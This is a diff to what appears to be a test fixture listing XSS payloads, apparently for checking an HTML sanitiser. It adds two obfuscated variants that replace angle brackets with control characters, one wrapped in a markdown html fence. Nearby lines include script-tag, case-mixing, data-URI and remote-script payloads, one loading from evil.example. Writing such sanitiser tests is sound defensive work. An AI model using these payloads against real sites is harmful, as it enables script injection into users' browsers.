@@ -14,6 +14,8 @@ PAYLOADS: tuple[str, ...] = (
     # elements
     "<script>alert(1)</script>",
     "<script>window.hacked=1</script>",
+    "\x04script\x05window.hacked=1\x04/script\x05",
+    "```html\n\x04img src=x onerror=window.hacked=1\x05\n```",
     "<ScRiPt>window.hacked=1</sCrIpT>",
     "<script/src=data:,alert(1)></script>",
     "<script src=//evil.example/x.js></script>",
